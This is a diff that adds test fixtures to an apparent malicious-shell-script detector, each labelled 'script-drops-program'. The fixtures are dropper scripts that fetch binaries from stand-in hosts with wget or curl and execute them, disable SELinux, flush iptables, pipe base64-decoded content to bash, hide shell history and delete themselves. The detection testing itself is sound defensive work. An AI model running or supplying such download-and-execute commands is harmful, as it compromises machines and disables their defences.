@@ -20,6 +20,24 @@ def marks(text, name="a.sh"):
         (
             "script-drops-program",
             (
+                "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nfor a in mips arm7 x86 sh4; do\n"
+                "wget http://198.51.100.1/$a; chmod 777 $a; ./$a; rm -f $a; done\n"
+            ),
+        ),
+        (
+            "script-drops-program",
+            (
+                "#!/bin/sh\nsetenforce 0; iptables -F\n"
+                "wget http://198.51.100.1/k -O /dev/shm/k && chmod +x /dev/shm/k && /dev/shm/k\n"
+            ),
+        ),
+        (
+            "script-drops-program",
+            '#!/bin/sh\necho IyEvYmluL3NoCmVjaG8gaGVsbG8K | base64 -d | bash\nrm -- "$0"\n',
+        ),
+        (
+            "script-drops-program",
+            (
                 "#!/bin/sh\nsetenforce 0\npkill -f kdevtmpfsi\nexport HISTFILE=/dev/null\n"
                 "curl -s http://203.0.113.9/x | sh\n"
             ),
